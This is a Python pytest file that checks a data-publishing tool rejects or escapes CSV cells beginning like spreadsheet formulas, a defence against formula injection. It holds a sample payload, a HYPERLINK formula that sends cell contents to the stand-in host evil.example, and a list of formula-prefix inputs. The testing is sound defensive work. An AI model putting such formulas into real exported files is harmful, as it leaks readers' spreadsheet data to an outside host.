"""No cell of a published CSV file is a formula: a spreadsheet would run it on the reader's machine.

Names and categories are declared, so the spec is refused where CSV is asked for and one of them begins like a formula;
or they are escaped, where the spec chooses that, and `penstock verify` reads them as they were.
"""

from __future__ import annotations

import csv
import json

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.attacks.typed_line import typed
from tests.support.workplace import Workplace, make_table, open_dp_account

EVIL = '=HYPERLINK("http://evil.example/"&A2,"click")'
CATEGORIES = [EVIL, "'quoted", "-9", "West"]


def spoil(workplace: Workplace) -> None:
    """Let the survey have regions that are formulas, and an income below zero."""
    workplace.raw["source"]["columns"]["region"]["categories"] = CATEGORIES
    survey = workplace.write_survey(400)
    regions = ["North", "South", "East", "West"]
    renamed = [CATEGORIES[regions.index(name)] for name in survey["region"].to_pylist()]
    survey = survey.set_column(survey.column_names.index("region"), "region", pa.array(renamed))
    pq.write_table(survey, workplace.source)
    workplace.write_spec()


@pytest.mark.parametrize(
    "begin", ["=1+1", "+1+cmd", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1", "＋1", "－1", "＠a"]
)
def test_a_category_or_name_that_begins_like_a_formula_is_refused_for_csv(workplace: Workplace, begin: str) -> None:
    columns = workplace.raw["source"]["columns"]
    columns["region"]["categories"] = ["North", begin]
    columns[begin] = {"role": "weight"}
    spec = workplace.folder / "spec.json"
    spec.write_text(json.dumps(workplace.raw), encoding="utf-8")
    refused = typed("plan", spec)
    refused.require_refusal(2)
    assert refused.err.count("spreadsheet would run") == 2
    workplace.raw["publish"]["formats"] = ["parquet"]
    del columns[begin]
    spec.write_text(json.dumps(workplace.raw), encoding="utf-8")
    assert typed("plan", spec).code == 0  # Parquet is not read by spreadsheets


def test_a_concept_of_a_taxonomy_is_looked_at_too(workplace: Workplace) -> None:
    parents = {name: ["=1"] for name in ("North", "South", "East", "West")} | {"=1": []}
    workplace.raw["source"]["columns"]["region"]["taxonomy"] = parents
    assert "spreadsheet would run" in typed("plan", workplace.write_spec()).err


def test_texts_that_are_numbers_and_names_of_identifiers_are_left(workplace: Workplace) -> None:
    columns = workplace.raw["source"]["columns"]
    columns["region"]["categories"] = ["-9", "+1", "-1.5", "-", "a=b"]
    columns["=id"] = {"role": "identifier"}
    assert typed("plan", workplace.write_spec()).code == 0


@pytest.mark.parametrize("kind", ["records", "table"])
def test_escaped_cells_are_texts_and_verify(workplace: Workplace, kind: str) -> None:
    if kind == "table":
        make_table(workplace)
        open_dp_account(5)
    workplace.raw["publish"]["spreadsheet"] = "escape"
    spoil(workplace)
    assert typed("run", workplace.spec_file).code == 0
    (bundle,) = workplace.bundles()
    stem = "data" if kind == "records" else "tables/incomes"
    with (bundle / f"{stem}.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    found = {row["region"] for row in rows}
    assert found >= {"'" + EVIL, "''quoted", "-9", "West"}
    assert set(pq.read_table(bundle / f"{stem}.parquet")["region"].to_pylist()) >= set(CATEGORIES)
    ended = typed("verify", bundle)
    assert ended.code == 0, ended
